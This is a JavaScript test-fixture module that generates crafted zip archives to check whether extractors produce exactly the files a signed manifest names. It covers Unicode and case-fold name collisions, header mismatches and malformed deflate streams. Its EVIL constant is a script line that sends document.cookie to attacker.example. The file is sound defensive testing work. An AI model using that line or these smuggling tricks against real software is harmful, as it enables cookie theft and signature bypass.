// The crafted corpus: zips written record by record (lib/zip.mjs), each with the file list an
// attacker (or a careless tool) would sign for it. Generated at test time, deterministic.
//
// A case is { name, group, what, zip: Buffer, files: [{ path, data }] }: `files` is what the
// signed manifest names. The harness signs exactly that list and opens the zip with the real
// strict reader; if it accepts, every extractor must produce exactly those (path, bytes).
import { buildZip, DeflateBits, S_IFDIR, S_IFLNK, S_IFREG } from "./zip.mjs";

const INDEX = Buffer.from("<!doctype html><title>app</title><script src=app.js></script>\n");
const APP = Buffer.from("console.log('signed release');\n".repeat(40));
const OTHER = Buffer.from("<!doctype html><title>other</title>\n");
const EVIL = Buffer.from("fetch('https://attacker.example/?c=' + document.cookie);\n");

const f = (path, data) => ({ path, data: Buffer.from(data) });
const base = () => [f("index.html", INDEX), f("app.js", APP)];
const entriesOf = (files, extra = {}) => files.map((x) => ({ name: x.path, data: x.data, ...extra }));

/** Made-by hosts (APPNOTE 4.4.2.2) crossed with file types: 0 MS-DOS, 3 Unix, 19 OS X, others. */
export const HOSTS = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 30];

export function craftedCases() {
  const cases = [];
  const add = (group, name, what, zip, files) => cases.push({ group, name, what, zip, files });

  // --- controls -------------------------------------------------------------------------------
  add("control", "control_plain", "index.html + app.js, made by Unix, regular 0644, deflate where smaller",
    buildZip(entriesOf(base())), base());
  add("control", "control_stored_dos", "stored entries made by MS-DOS, attributes 0",
    buildZip(entriesOf(base(), { method: 0, host: 0, mode: null })), base());
  add("control", "control_empty_file", "an empty file next to index.html",
    buildZip(entriesOf([...base(), f("empty.txt", "")])), [...base(), f("empty.txt", "")]);

  // --- class 1: type bits x made-by hosts ------------------------------------------------------
  for (const host of HOSTS) {
    // index.html typed as a symlink whose "content" (the link target) is other.html.
    const linkFiles = [f("index.html", "other.html"), f("other.html", OTHER)];
    add("type-bits", `host${host}_symlink`, `index.html with S_IFLNK type bits, made-by host ${host}`,
      buildZip([{ name: "index.html", data: "other.html", method: 0, host, mode: S_IFLNK | 0o777 }, { name: "other.html", data: OTHER, host }]),
      linkFiles);
    add("type-bits", `host${host}_directory`, `app.js with S_IFDIR type bits, made-by host ${host}`,
      buildZip([{ name: "index.html", data: INDEX, host }, { name: "app.js", data: APP, host, mode: S_IFDIR | 0o755 }]),
      base());
    add("type-bits", `host${host}_regular`, `regular S_IFREG 0644, made-by host ${host}`,
      buildZip(entriesOf(base(), { host, mode: S_IFREG | 0o644 })), base());
  }
  add("type-bits", "dos_directory_bit", "app.js with the MS-DOS directory attribute 0x10, host 0",
    buildZip([{ name: "index.html", data: INDEX, host: 0, mode: null }, { name: "app.js", data: APP, host: 0, mode: null, dosAttr: 0x10 }]), base());
  add("type-bits", "unix_type_zero_host19", "type bits 0 (no type), made-by OS X",
    buildZip(entriesOf(base(), { host: 19, mode: 0o644 })), base());

  // --- class 2: a path that is a file and a folder prefix -------------------------------------
  const lib = [f("index.html", INDEX), f("lib.js", APP), f("lib.js/x.js", EVIL)];
  add("prefix", "prefix_file_then_folder", "lib.js then lib.js/x.js", buildZip(entriesOf(lib)), lib);
  const libRev = [f("index.html", INDEX), f("lib.js/x.js", EVIL), f("lib.js", APP)];
  add("prefix", "prefix_folder_then_file", "lib.js/x.js then lib.js", buildZip(entriesOf(libRev)), libRev);
  const libCase = [f("index.html", INDEX), f("Lib.js", APP), f("lib.js/x.js", EVIL)];
  add("prefix", "prefix_case_folded", "Lib.js then lib.js/x.js (a prefix only after case folding)", buildZip(entriesOf(libCase)), libCase);

  // --- class 3: component length ----------------------------------------------------------------
  for (const n of [255, 256, 300]) {
    const name = `${"a".repeat(n - 3)}.js`;
    const files = [f("index.html", INDEX), f(`assets/${name}`, APP)];
    add("length", `component_${n}_bytes`, `a path component of ${n} bytes (path ${n + 7} bytes)`, buildZip(entriesOf(files)), files);
  }
  {
    const name = `${"ü".repeat(128)}.js`; // 259 bytes, 131 characters
    const files = [f("index.html", INDEX), f(name, APP)];
    add("length", "component_259_bytes_131_chars", "a component of 131 characters but 259 UTF-8 bytes", buildZip(entriesOf(files)), files);
  }

  // --- class 4: deflate as zlib decodes it -------------------------------------------------------
  const deflated = (name, what, stream, intended) => {
    const files = [f("index.html", INDEX), f("app.js", intended)];
    add("deflate", name, what, buildZip([{ name: "index.html", data: INDEX }, { name: "app.js", data: intended, method: 8, compressed: stream }]), files);
  };
  deflated("deflate_far_back_at_start", "a match at distance 1 before any output (zero-filled by a lenient inflater)",
    new DeflateBits().header(true, 1).match(3, 0).literals("ok").end().bytes(), Buffer.from("\0\0\0ok"));
  deflated("deflate_far_back_mid", "3 literals then a match at distance 4",
    new DeflateBits().header(true, 1).literals("abc").match(4, 3).end().bytes(), Buffer.from("abc\0abc"));
  deflated("deflate_far_back_large", "100 literals then a match at distance 32768 (code 29)",
    new DeflateBits().header(true, 1).literals("x".repeat(100)).match(3, 29, 13, 8191).end().bytes(), Buffer.from("x".repeat(100) + "\0\0\0"));
  deflated("deflate_distance_code_30", "distance code 30 (invalid in RFC 1951)",
    new DeflateBits().header(true, 1).literals("abcd").match(3, 30).end().bytes(), Buffer.from("abcdabc"));
  deflated("deflate_length_code_286", "literal/length code 286 (invalid)",
    new DeflateBits().header(true, 1).literals("abcd").sym(286).end().bytes(), Buffer.from("abcd"));
  {
    const b = new DeflateBits().header(true, 0).align();
    const stored = Buffer.concat([b.bytes(), Buffer.from([5, 0, 0, 0]), Buffer.from("hello")]);
    deflated("deflate_stored_nlen_wrong", "a stored block whose NLEN is not the complement of LEN", stored, Buffer.from("hello"));
  }
  deflated("deflate_reserved_block_type", "block type 3 (reserved)",
    new DeflateBits().header(true, 3).bytes(), Buffer.from(""));
  deflated("deflate_no_final_block", "a fixed block without BFINAL, input ends",
    new DeflateBits().header(false, 1).literals("abc").end().bytes(), Buffer.from("abc"));
  deflated("deflate_truncated", "the stream stops before its end-of-block code",
    new DeflateBits().header(true, 1).literals("abcdef").bytes().subarray(0, 4), Buffer.from("abc"));
  deflated("deflate_trailing_bytes", "junk after the final block, inside the entry",
    Buffer.concat([new DeflateBits().header(true, 1).literals("abc").end().bytes(), Buffer.from("JUNK")]), Buffer.from("abc"));

  // --- class 5: layouts and re-rooting ----------------------------------------------------------
  const lone = [f("dist/index.html", INDEX), f("dist/app.js", APP)];
  add("layout", "layout_lone_top_folder", "everything in one top folder dist/", buildZip(entriesOf(lone)), lone);
  const mac = [...lone, f("__MACOSX/dist/._index.html", "\0\x05\x16\x07AppleDouble")];
  add("layout", "layout_top_folder_and_macosx", "dist/ next to __MACOSX/", buildZip(entriesOf(mac)), mac);
  const dot = [...lone, f(".DS_Store", "\0\0\0\x01Bud1")];
  add("layout", "layout_top_folder_and_dotfile", "dist/ next to .DS_Store", buildZip(entriesOf(dot)), dot);
  const dotdir = [...lone, f(".well-known/assetlinks.json", "[]")];
  add("layout", "layout_top_folder_and_dot_folder", "dist/ next to .well-known/", buildZip(entriesOf(dotdir)), dotdir);
  const nested = [f("dist/index.html", INDEX), f("dist/.env", "SECRET=1")];
  add("layout", "layout_top_folder_with_dotfile_inside", "dist/index.html and dist/.env", buildZip(entriesOf(nested)), nested);
  const loneFile = [f("app.js", APP)];
  add("layout", "layout_lone_file", "a single file app.js, no index.html", buildZip(entriesOf(loneFile)), loneFile);
  const loneIndex = [f("index.html", INDEX)];
  add("layout", "layout_only_index", "a single index.html", buildZip(entriesOf(loneIndex)), loneIndex);
  const noIndex = [f("assets/app.js", APP), f("main.js", APP)];
  add("layout", "layout_no_index", "no index.html at the root, two top-level entries", buildZip(entriesOf(noIndex)), noIndex);
  const indexFolder = [f("index.html/index.html", INDEX)];
  add("layout", "layout_folder_named_index", "a lone top folder called index.html", buildZip(entriesOf(indexFolder)), indexFolder);
  const macOnly = [f("index.html", INDEX), f("__MACOSX/._index.html", "\0\x05\x16\x07")];
  add("layout", "layout_root_and_macosx", "index.html at the root next to __MACOSX/", buildZip(entriesOf(macOnly)), macOnly);

  // --- names: UTF-8, normalization, case ---------------------------------------------------------
  const font = Buffer.from("wOF2-font-bytes".repeat(20));
  const nfc = "assets/Schrift-\u00fc.woff2";
  const nfd = "assets/Schrift-u\u0308.woff2";
  add("names", "utf8_nfc_flagged", "Schrift-ü.woff2, NFC, UTF-8 flag set",
    buildZip([...entriesOf(base()), { name: nfc, data: font }]), [...base(), f(nfc, font)]);
  for (const host of HOSTS.filter((h) => h !== 3)) {
    add("names", `utf8_nfc_flagged_host${host}`, `Schrift-ü.woff2, NFC, UTF-8 flag set, made-by host ${host}, no type bits`,
      buildZip([...entriesOf(base(), { host, mode: null }), { name: nfc, data: font, host, mode: null }]), [...base(), f(nfc, font)]);
  }
  add("names", "utf8_nfd_flagged", "Schrift-ü.woff2, NFD (u + U+0308), UTF-8 flag set",
    buildZip([...entriesOf(base()), { name: nfd, data: font }]), [...base(), f(nfd, font)]);
  add("names", "utf8_nfc_unflagged", "Schrift-ü.woff2 as UTF-8 bytes without the UTF-8 flag (CP437 to some readers)",
    buildZip([...entriesOf(base()), { name: nfc, data: font, flags: 0 }]), [...base(), f(nfc, font)]);
  add("names", "utf8_nfc_nfd_collision", "the same name in NFC and in NFD",
    buildZip([...entriesOf(base()), { name: nfc, data: font }, { name: nfd, data: EVIL }]), [...base(), f(nfc, font), f(nfd, EVIL)]);
  add("names", "utf8_case_collision", "Schrift-ü and Schrift-Ü",
    buildZip([...entriesOf(base()), { name: nfc, data: font }, { name: "assets/Schrift-\u00dc.woff2", data: EVIL }]),
    [...base(), f(nfc, font), f("assets/Schrift-\u00dc.woff2", EVIL)]);
  add("names", "kelvin_sign_collision", "k.js and U+212A KELVIN SIGN.js (equal under Unicode case folding)",
    buildZip([...entriesOf(base()), { name: "k.js", data: APP }, { name: "\u212a.js", data: EVIL }]), [...base(), f("k.js", APP), f("\u212a.js", EVIL)]);
  add("names", "long_s_collision", "s.js and U+017F LATIN SMALL LETTER LONG S.js (NFC, equal under Unicode case folding)",
    buildZip([...entriesOf(base()), { name: "s.js", data: APP }, { name: "\u017f.js", data: EVIL }]), [...base(), f("s.js", APP), f("\u017f.js", EVIL)]);
  add("names", "ascii_case_collision", "App.js and app.js",
    buildZip([...entriesOf(base()), { name: "App.js", data: EVIL }]), [...base(), f("App.js", EVIL)]);
  add("names", "utf8_flag_local_only", "non-ASCII name with the UTF-8 flag in the local header only",
    buildZip([...entriesOf(base()), { name: nfc, data: font, central: { flags: 0 } }]), [...base(), f(nfc, font)]);
  add("names", "cp437_name", "a name with byte 0x81 (CP437 ü), no UTF-8 flag",
    buildZip([...entriesOf(base()), { name: Buffer.from("assets/Schrift-\x81.woff2", "latin1"), data: font, flags: 0 }]),
    [...base(), f("assets/Schrift-\u00fc.woff2", font)]);

  // --- what ordinary tools write ----------------------------------------------------------------
  add("ordinary", "directory_entries", "assets/ directory entry (Unix mode 040755) before assets/app.js",
    buildZip([{ name: "index.html", data: INDEX }, { name: "assets/", data: "", method: 0, mode: S_IFDIR | 0o755, dosAttr: 0x10 }, { name: "assets/app.js", data: APP }]),
    [f("index.html", INDEX), f("assets/app.js", APP)]);
  add("ordinary", "data_descriptor_deflate", "deflate entries with signed data descriptors (Java ZipOutputStream style)",
    buildZip(entriesOf(base(), { method: 8, descriptor: "sig" })), base());
  add("ordinary", "data_descriptor_nosig", "deflate entries with data descriptors without signature",
    buildZip(entriesOf(base(), { method: 8, descriptor: "nosig" })), base());
  add("ordinary", "data_descriptor_stored", "a stored entry with a data descriptor (ZipInputStream refuses these)",
    buildZip([{ name: "index.html", data: INDEX, method: 0, descriptor: "sig" }, { name: "app.js", data: APP }]), base());
  add("ordinary", "dot_slash_prefix", "./index.html, ./app.js (bsdtar style)",
    buildZip(base().map((x) => ({ name: `./${x.path}`, data: x.data }))), base());
  add("ordinary", "archive_comment", "an archive comment", buildZip(entriesOf(base()), { comment: "made by a tool" }), base());
  add("ordinary", "extra_field_timestamp", "extended-timestamp extra fields (UT, 0x5455) in both headers",
    buildZip(entriesOf(base(), { local: { extra: Buffer.from("555405000100000000", "hex") }, central: { extra: Buffer.from("555405000100000000", "hex") } })), base());

  // --- duplicates, trailing data, header disagreements --------------------------------------------
  add("structure", "duplicate_name_other_content", "index.html twice, the second one different",
    buildZip([...entriesOf(base()), { name: "index.html", data: EVIL }]), base());
  add("structure", "trailing_data", "bytes after the end record", buildZip(entriesOf(base()), { trailing: "trailing bytes" }), base());
  add("structure", "prepended_data", "bytes before the first local header (offsets shifted)", (() => {
    const z = buildZip(entriesOf(base()));
    return Buffer.concat([Buffer.from("#!/bin/sh\nexit 0\n"), z]);
  })(), base());
  add("structure", "header_name_differs", "local index.html, central evil.html (same length)",
    buildZip([{ name: "index.html", data: INDEX, central: { name: "evil.html" } }, { name: "app.js", data: APP }]), base());
  add("structure", "header_crc_wrong", "stored app.js with a wrong CRC in both headers",
    buildZip([{ name: "index.html", data: INDEX }, { name: "app.js", data: APP, method: 0, local: { crc: 1 }, central: { crc: 1 } }]), base());
  add("structure", "header_usize_differs", "central uncompressed size one less than local (stored)",
    buildZip([{ name: "index.html", data: INDEX }, { name: "app.js", data: APP, method: 0, central: { usize: APP.length - 1 } }]), base());
  add("structure", "header_method_differs", "local deflate, central stored",
    buildZip([{ name: "index.html", data: INDEX }, { name: "app.js", data: APP, method: 8, central: { method: 0 } }]), base());
  add("structure", "local_entry_not_in_central", "a local entry evil.js the central directory does not list",
    buildZip([...entriesOf(base()), { name: "evil.js", data: EVIL, inCentral: false }]), [...base(), f("evil.js", EVIL)]);
  {
    // Central header 2 points at local header 1: app.js in the directory is index.html's bytes.
    const z0 = buildZip(entriesOf(base(), { method: 0 }));
    add("structure", "central_offset_to_other_local", "central app.js points at the local header of index.html",
      buildZip(entriesOf(base(), { method: 0 }).map((e, i) => (i === 1 ? { ...e, central: { offset: 0 } } : e))), base());
    void z0;
  }
  add("structure", "end_count_short", "the end record counts one entry less than there are",
    buildZip(entriesOf(base()), { end: { count: 1, diskCount: 1 } }), base());
  add("structure", "encrypted_flag_central_only", "central flag bit 0 (encrypted) on app.js only",
    buildZip([{ name: "index.html", data: INDEX }, { name: "app.js", data: APP, central: { flags: 1 } }]), base());
  return cases;
}
